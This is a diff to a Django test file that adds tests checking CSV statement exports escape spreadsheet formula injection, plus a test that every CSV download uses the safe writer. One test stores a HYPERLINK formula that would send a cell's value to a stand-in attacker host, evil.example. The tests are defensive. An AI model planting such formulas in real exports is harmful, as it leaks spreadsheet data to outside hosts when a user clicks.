@@ -170,3 +170,36 @@ def test_anonymous_goes_to_login(client, name):
     response = client.get(reverse(name))
     assert response.status_code == 302
     assert response["Location"].startswith(reverse("login"))
+
+
+def test_statement_csv_cells_cannot_run_as_formulas(client_for, partner_admin, partner):
+    day = datetime.date(2026, 5, 10)
+    bad = entry(partner, day, EntryKind.PENALTY, "-200.00", "f1")
+    bad.description = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    bad.save(update_fields=["description"])
+    response = client_for(partner_admin).get(reverse("kpi:statement"), {"month": "2026-05", "format": "csv"})
+    (row,) = [r for r in csv.reader(io.StringIO(response.content.decode())) if "HYPERLINK" in "".join(r)]
+    assert row[3] == "'" + bad.description
+    assert row[4] == "-200.00"  # numbers stay numbers
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
+def test_csv_safe_cell_quotes_formula_starts(text):
+    from prm.exports import csv_safe_cell
+
+    assert csv_safe_cell(text) == "'" + text
+    assert csv_safe_cell("Acme") == "Acme" and csv_safe_cell(Decimal("-5")) == Decimal("-5")
+
+
+def test_every_csv_download_goes_through_the_safe_writer():
+    """A new export must use prm.exports.csv_response, not its own csv.writer on an HttpResponse."""
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parents[2]
+    offenders = [
+        str(path.relative_to(root))
+        for app in ("prm", "partners", "leads", "training", "kpi")
+        for path in (root / app).rglob("*.py")
+        if "text/csv" in path.read_text() and path.relative_to(root).as_posix() != "prm/exports.py"
+    ]
+    assert offenders == []
